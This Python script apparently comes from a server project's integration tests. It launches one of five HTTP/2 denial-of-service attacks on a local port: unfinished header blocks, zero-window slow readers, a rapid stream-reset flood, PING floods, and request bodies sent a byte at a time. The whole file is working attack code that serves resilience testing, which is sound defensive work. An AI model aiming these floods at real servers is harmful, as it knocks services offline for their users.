"""`python attacker.py KIND PORT NUMBER`: one way to do harm, from a process of its own.

It says `ready` once it goes on, ends when its input does, and takes what time of the processor others leave.
"""

import asyncio
import contextlib
import os
import sys
from collections.abc import Awaitable, Callable

from integration.abuse.wire import END_HEADERS, HEADERS, PING, RST_STREAM, Wire, frame, heads

# As many as the measurement M20 sent.
RESETS_A_SECOND = 6500
RESETS_A_ROUND = 100
PINGS_A_ROUND = 100
CANCEL = b"\0\0\0\x08"


def ready() -> None:
    """Tell whoever started this."""
    print("ready", flush=True)  # noqa: T201


async def half_heads(port: int, number: int) -> None:
    """Connections whose heads never end."""
    wires = [await Wire.connect(port) for _ in range(number)]
    for wire in wires:
        block = wire.h2.encoder.encode(heads())
        await wire.flush(frame(HEADERS, 0, 1, block[:20]))
    ready()
    await asyncio.gather(*(wire.until_closed() for wire in wires))


async def slow_readers(port: int, number: int, streams: int = 32) -> None:
    """Connections of many calls of which no answer is read."""
    wires = [await Wire.connect(port, window=0) for _ in range(number)]
    for wire in wires:
        for _ in range(streams):
            wire.call()
        await wire.flush()
    ready()
    await asyncio.gather(*(wire.until_closed() for wire in wires))


async def resets(port: int, number: int) -> None:
    """Calls that are begun and given up at once, `number` on each of connections that follow one another."""
    is_told = False
    while True:
        wire = await Wire.connect(port)
        reading = asyncio.create_task(wire.until_closed())
        first, again = (wire.h2.encoder.encode(heads()) for _ in range(2))  # the second time it is an index
        for sent in range(0, number, RESETS_A_ROUND):
            if wire.is_closed:
                break
            with contextlib.suppress(ConnectionError):
                await wire.flush(b"".join(_given_up(2 * n + 1, again if n else first) for n in _next(sent)))
            await asyncio.sleep(RESETS_A_ROUND / RESETS_A_SECOND)
            if not is_told and sent:
                ready()
                is_told = True
        await wire.close()
        await reading


def _next(sent: int) -> range:
    return range(sent, sent + RESETS_A_ROUND)


def _given_up(stream: int, block: bytes) -> bytes:
    """A call's heads, whole, and its end by CANCEL."""
    return frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)


async def pings(port: int, number: int) -> None:
    """As many pings as go, on `number` connections, each made anew when it is closed."""
    flood = frame(PING, 0, 0, b"8 bytes.") * PINGS_A_ROUND

    async def one() -> None:
        while True:
            wire = await Wire.connect(port)
            reading = asyncio.create_task(wire.until_closed())
            with contextlib.suppress(ConnectionError):
                while not wire.is_closed:
                    await wire.flush(flood)
                    await asyncio.sleep(0.01)
            await reading
            await asyncio.sleep(0.05)

    floods = [asyncio.create_task(one()) for _ in range(number)]
    await asyncio.sleep(0.2)
    ready()
    await asyncio.gather(*floods)


async def half_messages(port: int, number: int, streams: int = 32) -> None:
    """Calls whose message never ends, a byte of it now and then."""
    wires = [await Wire.connect(port) for _ in range(number)]
    calls = []
    for wire in wires:
        for _ in range(streams):
            stream = wire.call(b"")
            wire.h2.send_data(stream, b"\0\1\0\0\0")  # 16 MiB are to come
            calls.append((wire, stream))
        await wire.flush()
        asyncio.create_task(wire.until_closed())  # noqa: RUF006 - the loop is this one's
    ready()
    while True:
        for wire, stream in calls:
            with contextlib.suppress(Exception):
                wire.h2.send_data(stream, b"x")
                await wire.flush()
        await asyncio.sleep(0.5)


KINDS: dict[str, Callable[[int, int], Awaitable[None]]] = {
    "half_heads": half_heads,
    "slow_readers": slow_readers,
    "resets": resets,
    "pings": pings,
    "half_messages": half_messages,
}


async def main() -> None:
    """Attack until nobody listens any more."""
    os.nice(19)
    kind, port, number = sys.argv[1:]
    attack = asyncio.ensure_future(KINDS[kind](int(port), int(number)))
    over = asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    await asyncio.wait((attack, over), return_when=asyncio.FIRST_COMPLETED)
    if attack.done():
        attack.result()
        await over
    os._exit(0)


if __name__ == "__main__":
    asyncio.run(main())
